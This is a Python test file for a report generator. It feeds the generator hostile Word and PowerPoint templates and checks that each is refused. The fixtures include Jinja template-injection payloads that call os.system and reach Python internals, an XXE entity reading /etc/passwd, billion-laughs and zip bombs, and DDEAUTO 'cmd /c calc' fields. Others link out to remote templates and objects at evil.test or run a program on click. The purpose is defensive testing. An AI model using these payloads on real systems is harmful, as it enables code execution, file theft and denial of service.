"""Hostile templates: each is refused by name within seconds, nothing is written, and none of its code is run."""

from __future__ import annotations

import io
import struct
import time
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from reportgen.app.cli import main
from reportgen.app.home import HOME
from tests.tools.sheets import indicators, package_of
from tests.writing.test_template_check import run, runs, template

Parts = dict[str, bytes]
Made = Callable[[], bytes]

MARKER = "was-run.txt"
SECONDS = 5
BOOK = """
    Ref | Indicator   | Polarity | 2017/18 Q2 actual | 2017/18 Q2 target
    1   | Visits made | Bigger   | 60.9              | 80
"""
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
WORD_RELS, DECK_RELS = "word/_rels/document.xml.rels", "ppt/_rels/presentation.xml.rels"


def parts_of(data: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        return {name: package.read(name) for name in package.namelist()}


def word() -> Parts:
    return parts_of(template("A report"))


def deck() -> Parts:
    return parts_of((HOME / "templates" / "standard" / "appendix-1.pptx").read_bytes())


def changed(parts: Parts, name: str, old: bytes, new: bytes) -> Made:
    assert old in parts[name], f"{old!r} is not in {name}"
    return lambda: package_of({**parts, name: parts[name].replace(old, new, 1)})


def more(parts: Parts, added: Mapping[str, bytes]) -> Made:
    return lambda: package_of({**parts, **added})


def related(parts: Parts, rels: str, kind: str, target: str, *, outside: bool = False, part: bytes = b"x") -> Made:
    """A package with one more relation, and the part it leads to."""
    mode = ' TargetMode="External"' if outside else ""
    kind = kind if kind.startswith("http") else f"{RELATIONS}/{kind}"
    relation = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    content = parts.get(rels, empty).replace(b"</Relationships>", relation.encode())
    added = {} if outside else {f"{rels.split('/', maxsplit=1)[0]}/{target}": part}
    return lambda: package_of({**parts, rels: content, **added})


def says(*lines: str) -> Made:
    return lambda: template(*lines)


def field(*codes: str) -> Made:
    """A field whose code is cut into these runs."""
    texts = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    begin, end = ('<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in ("begin", "end"))  # noqa: UP031
    return lambda: template(draw=runs(begin, texts, end))


def in_part(name: str, text: str) -> Made:
    def draw(document: object) -> None:
        section = document.sections[0]  # type: ignore[attr-defined]
        if name in ("header", "footer"):
            getattr(section, name).paragraphs[0].text = text
        else:
            setattr(document.core_properties, name, text)  # type: ignore[attr-defined]

    return lambda: template(draw=draw)


def with_xml(xml: str) -> Made:
    return lambda: template(draw=runs(f"<w:r>{xml}</w:r>"))


OPEN = f"open('{MARKER}', 'w')"
CODE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
LIPSUM = "{{ lipsum.__globals__['os'].system('touch %s') }}" % MARKER  # noqa: UP031
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
FILE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
DEEP = [f"{{%p for a{number} in indicators %}}" for number in range(5)] + ["{%p endfor %}"] * 5

CODES: dict[str, tuple[Made, str]] = {
    "a class in the text": (says(CODE), "calls something"),
    "a class by name": (says("{{ ''['__class__'] }}"), "asks for “__class__”"),
    "a class by a name put together": (says("{{ ''['__cl' ~ 'ass__'] }}"), "whose name is worked out"),
    "a class by a filter": (says("{{ ''|attr('__class__') }}"), "there is no filter “attr”"),
    "a class of a list": (says("{{ indicators.__class__ }}"), "asks for “__class__”"),
    "code in a header": (in_part("header", CODE), "calls something"),
    "code in a footer": (in_part("footer", CODE), "calls something"),
    "code in the title": (in_part("title", CODE), "calls something"),
    "code in the author": (in_part("author", CODE), "calls something"),
    "code in the comments": (in_part("comments", CODE), "calls something"),
    "code in the identifier": (in_part("identifier", LIPSUM), "calls something"),
    "lipsum": (says(LIPSUM), "calls something"),
    "the globals of cycler": (says("{{ cycler.__init__.__globals__ }}"), "asks for “__globals__”"),
    "the template itself": (says("{{ self._TemplateReference__context }}"), "asks for “_TemplateReference__context”"),
    "a file opened": (says("{{ %s.write('x') }}" % OPEN), "calls something"),  # noqa: UP031
    "a range": (says("{%p for n in range(999999999) %}", "{%p endfor %}"), "calls something"),
    "a method of a text": (says("{{ committee.format(1) }}"), "calls something"),
    "a method of a list": (says("{{ indicators.append(1) }}"), "calls something"),
    "a set": (says("{% set x = committee ~ committee %}"), "begins with “set”"),
    "an include": (says("{% include '/etc/passwd' %}"), "begins with “include”"),
    "an import": (says("{% import 'os' as os %}"), "begins with “import”"),
    "an extends": (says("{% extends 'base' %}"), "begins with “extends”"),
    "a macro": (says("{% macro m() %}{% endmacro %}"), "begins with “macro”"),
    "no escaping": (says("{% autoescape false %}{{ title }}{% endautoescape %}"), "begins with “autoescape”"),
    "raw": (says("{% raw %}x{% endraw %}"), "begins with “raw”"),
    "a power": (says("{{ 9**9**9**9 }}"), "calculates"),
    "a text many times": (says("{{ 'a' * 1000000000 }}"), "calculates"),
    "a format of a billion": (says("{{ '%01000000000d' % 1 }}"), "calculates"),
    "center": (says("{{ 'a'|center(1000000000) }}"), "there is no filter “center”"),
    "a group of five loops": (says(*DEEP), "more than 4 loops"),
    "a loop in itself": (says("{% for x in indicators recursive %}{% endfor %}"), "repeats in a way"),
    "a thousand brackets": (says("{{ " + "(" * 240 + "1" + ")" * 240 + " }}"), "far too complicated"),
    "a number of thousands of digits": (says("{{ " + "9" * 5000 + " }}"), "longer than 500 characters"),
    "code in alternative text": (
        with_xml(
            '<w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
            f'<wp:docPr id="1" name="x" descr="{LIPSUM}"/></wp:inline></w:drawing>'
        ),
        "a tag stands in what people do not see",
    ),
    "code in deleted text": (with_xml(f"<w:delText>{LIPSUM}</w:delText>"), "deleted or hidden text"),
    "a value in the code of a field": (field(" DATE {{ committee }} "), "a tag in the code of a field"),
}
REACHING: dict[str, tuple[Made, str]] = {
    "a remote template": (
        related(word(), "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.test/x.dotm", outside=True),
        "takes styles and macros from another template (http://evil.test/x.dotm)",
    ),
    "a remote picture": (
        related(word(), WORD_RELS, "image", "http://evil.test/x.png", outside=True),
        "fetches a picture from http://evil.test/x.png",
    ),
    "a picture on another computer": (
        related(word(), WORD_RELS, "image", r"\\evil\x.png", outside=True), r"fetches a picture from \\evil\x.png",
    ),
    "a remote object": (
        related(word(), WORD_RELS, "oleObject", "http://evil.test/x", outside=True), "linked to an object",
    ),
    "another document": (
        related(word(), WORD_RELS, "subDocument", "http://evil.test/x.docx", outside=True), "takes in another document",
    ),
    "a frame": (related(word(), WORD_RELS, "frame", "http://evil.test", outside=True), "shows another page in a frame"),
    "a mail merge": (
        related(word(), WORD_RELS, "mailMergeSource", "file:///c:/x.mdb", outside=True), "is a mail merge",
    ),
    "an unheard-of relation": (
        related(word(), WORD_RELS, "whatever", "http://evil.test", outside=True), "reaches out to http://evil.test",
    ),
    "a link to a program": (
        related(word(), WORD_RELS, "hyperlink", "file:///c:/windows/calc.exe", outside=True), "which is no web",
    ),
    "a link to a script": (
        related(word(), WORD_RELS, "hyperlink", "javascript:alert(1)", outside=True), "which is no web",
    ),
    "a chunk": (related(word(), WORD_RELS, "aFChunk", "chunk.html"), "takes in another file as it is"),
    "an embedded object": (related(word(), WORD_RELS, "oleObject", "embeddings/o.bin"), "embedded object"),
    "an embedded program": (related(word(), WORD_RELS, "package", "embeddings/x.exe"), "x.exe, which can run"),
    "an ActiveX control": (related(word(), WORD_RELS, "control", "activeX/activeX1.xml", part=b"<x/>"), "ActiveX"),
    "macros": (related(word(), WORD_RELS, f"{MICROSOFT}/vbaProject", "vbaProject.bin"), "holds macros"),
    "an add-in": (related(word(), "_rels/.rels", f"{MICROSOFT}/webextension", "x.xml", part=b"<x/>"), "an add-in"),
    "a macro-enabled document under another name": (
        changed(word(), "[Content_Types].xml", b"wordprocessingml.document.main+xml", b"x"), "this is not a Word",
    ),
    "DDE": (field(' DDE cmd "/c calc" '), "starts another program by DDE"),
    "DDE that starts itself": (field(' DDEAUTO cmd "/c calc" '), "starts another program by DDE"),
    "DDE cut into runs": (field(" D", "DEAU", "TO cmd "), "starts another program by DDE"),
    "DDE in small letters": (field(" ddeauto cmd "), "starts another program by DDE"),
    "INCLUDEPICTURE": (field(' INCLUDEPICTURE "http://evil.test/x.png" '), "a picture (the field INCLUDEPICTURE)"),
    "INCLUDETEXT": (field(' INCLUDETEXT "c:\\secret.txt" '), "takes in another file"),
    "LINK": (field(" LINK Excel.Sheet.8 x "), "linked to an object"),
    "MACROBUTTON": (field(" MACROBUTTON x y "), "runs a macro"),
    "QUOTE": (field(" QUOTE 68 68 69 "), "has the field QUOTE"),
    "a field's link": (field(r" HYPERLINK \\\\evil\\x "), "which is no web"),
    "a simple field": (
        lambda: template(draw=runs('<w:fldSimple w:instr=" DDEAUTO cmd "><w:r/></w:fldSimple>')), "by DDE",
    ),
    "a drawing from elsewhere": (
        with_xml('<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.test/x"/></w:pict>'),
        "fetches something from http://evil.test/x",
    ),
}  # fmt: skip


def bomb(name: str) -> Made:
    def made() -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
            for part, content in word().items():
                package.writestr(part, content)
            for number in range(3):
                package.writestr(f"{name}{number}.bin", b"\0" * 40_000_000)
        return stream.getvalue()

    return made


def lying() -> bytes:
    """A package whose directory says that a part is small."""
    data = bytearray(package_of({**word(), "word/media/x.bin": b"\0" * 1_000_000}))
    place = data.rfind(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(data)


def twice() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        for part, content in word().items():
            package.writestr(part, content)
        package.writestr("WORD/document.xml", b"<x/>")
    return stream.getvalue()


def before_root(entities: bytes, *, code: str = "") -> Made:
    def made() -> bytes:
        parts = word()
        text = parts["word/document.xml"]
        start = text.index(b"<w:document")
        text = b'<?xml version="1.0"?>' + entities + text[start:].replace(b"A report", b"&a;")
        return package_of({**parts, "word/document.xml": text.decode().encode(code) if code else text})

    return made


BOMBS: dict[str, tuple[Made, str]] = {
    "a zip bomb": (bomb("word/media/x"), "far larger than it looks"),
    "a large part": (more(word(), {"word/x.xml": b"<x>" + b" " * 5_000_000 + b"</x>"}), "far larger than it looks"),
    "a large part under another name": (
        more(word(), {"word/x.dat": b"<x>" + b" " * 5_000_000 + b"</x>"}), "far larger than it looks",
    ),
    "thousands of parts": (more(word(), {f"x{number}": b"" for number in range(2001)}), "far larger than it looks"),
    "a billion laughs": (before_root(LAUGHS), "defines its own entities"),
    "a billion laughs in UTF-16": (before_root(LAUGHS, code="utf-16"), "defines its own entities"),
    "a file of the computer": (before_root(FILE), "defines its own entities"),
    "another encoding": (
        more(word(), {"word/x.xml": b'<?xml version="1.0" encoding="UTF-7"?><x/>'}), "defines its own entities",
    ),
    "a hundred thousand levels": (
        more(word(), {"word/x.xml": b"<x>" * 100_000 + b"</x>" * 100_000}), "not a Word document",
    ),
    "a directory that lies": (lying, "this is not a Word document"),
    "two parts of one name": (twice, "two parts of the same name"),
    "a part outside": (more(word(), {"../../x.xml": b"<x/>"}), "reach out of its own folder"),
    "a part that is cut off": (more(word(), {"word/document.xml": word()["word/document.xml"][:500]}), "not a Word"),
    "no part": (lambda: package_of({}), "this is not a Word document"),
    "an old file": (lambda: b"\xd0\xcf\x11\xe0" + b"x" * 1000, "has a password, or is of an old type"),
    "half a file": (lambda: template("x")[:3000], "this is not a Word document"),
    "a million tags left open": (says("{{ " * 900_000), "more than 5000 tags"),
    "a tag in a hundred thousand pieces": (
        lambda: template(draw=runs(*(["<w:r><w:t>{</w:t></w:r>"] * 30_000))), "more than 5000 tags",
    ),
    "a hundred thousand elements": (more(word(), {"word/x.xml": b"<x>" + b"<y/>" * 100_000 + b"</x>"}), "far too long"),
    "six thousand paragraphs": (
        changed(word(), "word/document.xml", b"<w:body>", b"<w:body>" + b"<w:p/>" * 6000), "more than 5000 paragraphs",
    ),
    "six thousand tags": (says(*["{{ title }}" * 10] * 600), "more than 5000 tags"),
    "a macro-enabled document": (
        changed(
            word(),
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "holds macros",
    ),
    "a template of Word": (
        changed(word(), "[Content_Types].xml", b"wordprocessingml.document.main", b"wordprocessingml.template.main"),
        "the type .dotx",
    ),
    "Strict Open XML": (
        changed(word(), "_rels/.rels", b"schemas.openxmlformats.org/officeD", b"purl.oclc.org/ooxml/officeD"),
        "Strict Open XML",
    ),
}  # fmt: skip

LAYOUT = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
DECKS: dict[str, tuple[Made, str]] = {
    "a remote picture": (related(deck(), LAYOUT, "image", "http://evil.test/x", outside=True), "fetches a picture"),
    "a remote video": (related(deck(), LAYOUT, "video", "http://evil.test/x", outside=True), "plays http://evil.test/x"),
    "an object": (related(deck(), LAYOUT, "oleObject", "embeddings/o.bin"), "holds an embedded object"),
    "macros": (related(deck(), DECK_RELS, f"{MICROSOFT}/vbaProject", "vbaProject.bin"), "holds macros"),
    "a link to a program": (related(deck(), LAYOUT, "hyperlink", "file:///c:/x.exe", outside=True), "which is no web"),
    "a click that starts a program": (
        changed(deck(), "ppt/slideLayouts/slideLayout1.xml", b"<p:cNvPr ", b'<p:cNvPr action="ppaction://program" '),
        "starts something when it is clicked",
    ),
    "entities": (more(deck(), {"ppt/x.xml": LAUGHS + b"<x/>"}), "defines its own entities"),
    "a bomb": (more(deck(), {"ppt/x.xml": b"<x>" + b" " * 5_000_000 + b"</x>"}), "far larger than it looks"),
    "macro-enabled": (
        changed(
            deck(),
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        ),
        "holds macros",
    ),
    "a show": (
        changed(deck(), "[Content_Types].xml", b"presentationml.presentation.main", b"presentationml.slideshow.main"),
        ".ppsx",
    ),
}  # fmt: skip
WORDS = {**CODES, **REACHING, **BOMBS}


def refused(made: Made, name: str, kind: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("reportgen.app.home.HOME", folder)
    monkeypatch.chdir(folder)
    (folder / "templates").mkdir()
    (folder / "templates" / name).write_bytes(made())
    profile = f'[rating]\nscheme = "binary"\n[[documents]]\nkind = "{kind}"\ntemplate = "{name}"\nname = "{name}"\n'
    (folder / "own.toml").write_text(profile)
    (folder / "figures.xlsx").write_bytes(indicators(BOOK))
    before = sorted(folder.rglob("*"))
    start = time.process_time()
    assert main(["build", "figures.xlsx", "--profile", "own.toml", "--out", "drafts", "--quiet"]) == 1
    assert time.process_time() - start < SECONDS
    assert sorted(folder.rglob("*")) == before, "something was written"


@pytest.mark.parametrize("kind", WORDS)
def test_a_hostile_word_template_is_refused_by_name(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    made, what = WORDS[kind]
    refused(made, "ours.docx", "word", tmp_path, monkeypatch)
    said = capsys.readouterr()
    assert said.out == ""
    assert "  templates/ours.docx" in said.err
    assert what in said.err
    assert "What to do: " in said.err
    assert "Traceback" not in said.err
    assert "does not foresee" not in said.err


@pytest.mark.parametrize("kind", DECKS)
def test_and_so_is_a_hostile_deck(
    kind: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    made, what = DECKS[kind]
    refused(made, "ours.pptx", "deck", tmp_path, monkeypatch)
    said = capsys.readouterr()
    assert "  templates/ours.pptx" in said.err
    assert what in said.err
    assert "does not foresee" not in said.err


def test_there_are_many_kinds() -> None:
    assert len(WORDS) + len(DECKS) >= 80


def test_but_what_every_council_may_have_is_taken(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Links to the web, page numbers, a table of contents, bookmarks."""
    page = runs(run("Page "), '<w:fldSimple w:instr=" PAGE "><w:r/></w:fldSimple>')
    data = parts_of(template("{{ title }}", draw=page))
    made = related(data, WORD_RELS, "hyperlink", "https://www.example.gov.uk/a", outside=True)
    with pytest.raises(AssertionError, match="assert 0 == 1"):
        refused(made, "ours.docx", "word", tmp_path, monkeypatch)
    assert (tmp_path / "drafts" / "ours.docx").exists()
